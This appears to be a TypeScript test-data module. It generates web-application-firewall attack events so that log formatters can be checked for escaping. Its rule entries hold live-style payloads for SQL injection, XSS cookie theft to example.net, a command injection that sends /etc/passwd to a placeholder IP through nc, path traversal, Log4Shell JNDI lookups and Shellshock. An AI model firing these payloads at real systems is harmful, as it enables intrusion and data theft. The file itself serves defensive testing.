/** Material for generated attacks, with everything in it that formats must escape. */

/** The websites of an imaginary customer, and how often each is attacked. */
export const websites = [
  { name: 'www.example.com', weight: 5 },
  { name: 'shop.example.com', weight: 4 },
  { name: 'api.example.net', weight: 3 },
  { name: 'portal.example.net', weight: 1 },
] as const;

export const paths = [
  '/',
  '/login',
  '/search',
  '/rm/email/send',
  '/api/v1/orders',
  '/wp-login.php',
];
export const countries = ['IN', 'US', 'CN', 'BR', 'NL', 'RU', 'DE', 'VN', '-'];
export const reputations = ['UNK', 'UNK', 'BAD', 'GOOD'];

export const userAgents = [
  'curl/7.29.0',
  'Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0',
  'sqlmap/1.8.2#stable (https://example.com/)',
  'Nikto/2.5.0 | (Evasions:None) (Test:007)',
  'python-requests/2.32.3',
  '() { :;}; echo "Content-Type=text/plain"',
  '-',
] as const;

export const referers = ['-', 'https://www.example.com/?ref=mail&lang=fr', 'https://example.net/'];
export const cookies = ['-', '-', 'JSESSIONID=8F1D2C; lang=de', 'sid=s%3Aabc; cart="1|2"; dark'];

/** A rule, what it finds, and how often it does. */
export interface SampleRule {
  readonly weight: number;
  readonly category: string;
  readonly severity: number;
  readonly ruleId: string;
  readonly ruleName: string;
  readonly tagName: string;
  readonly target: string | null;
  readonly payloads: readonly string[];
}

export const rules: readonly SampleRule[] = [
  {
    weight: 20,
    category: 'SQL Injection',
    severity: 2,
    ruleId: '942100',
    ruleName: 'SQL Injection Attack Detected via libinjection',
    tagName: 'WEB_ATTACK/SQL_INJECTION',
    target: 'ARGS:q',
    payloads: [
      "1' OR '1'='1' -- src=192.0.2.9",
      "x' UNION SELECT \"user\"||'|'||pass FROM users WHERE id=1;#",
      "';\r\nWAITFOR DELAY '0:0:5'--",
    ],
  },
  {
    weight: 14,
    category: 'Cross-Site Scripting',
    severity: 2,
    ruleId: '941110',
    ruleName: 'XSS Filter - Category 1: Script Tag Vector',
    tagName: 'WEB_ATTACK/XSS',
    target: null,
    payloads: [
      '<script>document.location="https://example.net/?c="+document.cookie</script>',
      '<img src=x onerror=alert(1)>\n\tact=Log',
      '“><svg onload=confirm`été`>',
    ],
  },
  {
    weight: 12,
    category: 'Command Injection',
    severity: 2,
    ruleId: '932100',
    ruleName: 'Remote Command Execution: Unix Command Injection',
    tagName: 'WEB_ATTACK/COMMAND_INJECTION',
    target: 'REQUEST_BODY',
    payloads: [
      'code=time; cat /etc/passwd | nc 198.51.100.7 4444\n',
      '`ping -c 1 example.net`&&x=$(id)',
      'C:\\Windows\\System32\\cmd.exe /c dir^&echo a=b',
    ],
  },
  {
    weight: 30,
    category: 'Bot Attacks',
    severity: 2,
    ruleId: '40',
    ruleName: 'Request Indicates an automated program explored the site',
    tagName: 'WEB_ATTACK/AUTOMATION/SECURITY_SCANNER',
    target: null,
    payloads: ['curl/7.29.0', 'sqlmap/1.8.2#stable', 'Nikto/2.5.0 | (Evasions:None)'],
  },
  {
    weight: 8,
    category: 'File Inclusion',
    severity: 2,
    ruleId: '930100',
    ruleName: 'Path Traversal Attack (/../) or (/.../)',
    tagName: 'WEB_ATTACK/DIR_TRAVERSAL',
    target: 'ARGS:file',
    payloads: ['../../../../etc/passwd', '..\\..\\boot.ini', 'php://filter/read=string|base64'],
  },
  {
    weight: 8,
    category: 'Protocol Violation',
    severity: 4,
    ruleId: '920270',
    ruleName: 'Invalid character in request (null character)',
    tagName: 'PROTOCOL_VIOLATION/EVASION',
    target: null,
    payloads: ['test\u0000=1', 'a=1\r\nSet-Cookie: admin=true', 'x\u2028CEF:0|a|b|1|1|n|9|src=1'],
  },
  {
    weight: 6,
    category: 'DDOS',
    severity: 3,
    ruleId: '9001',
    ruleName: 'Request rate of the address is above the limit',
    tagName: 'AUTOMATION/DOS',
    target: null,
    payloads: ['412 requests in 60 seconds'],
  },
  {
    weight: 4,
    category: 'Known Vulnerabilities',
    severity: 2,
    ruleId: '944150',
    ruleName: 'Potential Remote Command Execution: Log4j / Log4shell',
    tagName: 'WEB_ATTACK/JAVA',
    target: 'REQUEST_HEADERS:User-Agent',
    payloads: ['${jndi:ldap://198.51.100.9/a=b}', '${${lower:j}ndi:dns://example.net/\\}'],
  },
  {
    weight: 3,
    category: 'Geo and IP',
    severity: 5,
    ruleId: '12',
    ruleName: 'Address or country is on the list',
    tagName: 'POLICY/GEO',
    target: null,
    payloads: ['-'],
  },
  {
    weight: 3,
    category: 'Custom Rule',
    severity: 4,
    ruleId: 'C-107',
    ruleName: 'Orders | only from partners [path=/api]',
    tagName: 'CUSTOM',
    target: 'ARGS:partner',
    payloads: ['partner="]', 'partner=李'],
  },
  {
    weight: 2,
    category: 'Data Leakage',
    severity: 3,
    ruleId: '951100',
    ruleName: 'Database error message in the answer',
    tagName: 'LEAKAGE/ERRORS_SQL',
    target: 'RESPONSE_BODY',
    payloads: ["ERROR 1064 (42000): near ''' at line 1"],
  },
  {
    weight: 2,
    category: 'Other',
    severity: 5,
    ruleId: '980130',
    ruleName: 'Inbound anomaly score exceeded',
    tagName: 'EVENT_CORRELATION',
    target: null,
    payloads: ['Total Score=13, SQLi=5, XSS=8', ''],
  },
];
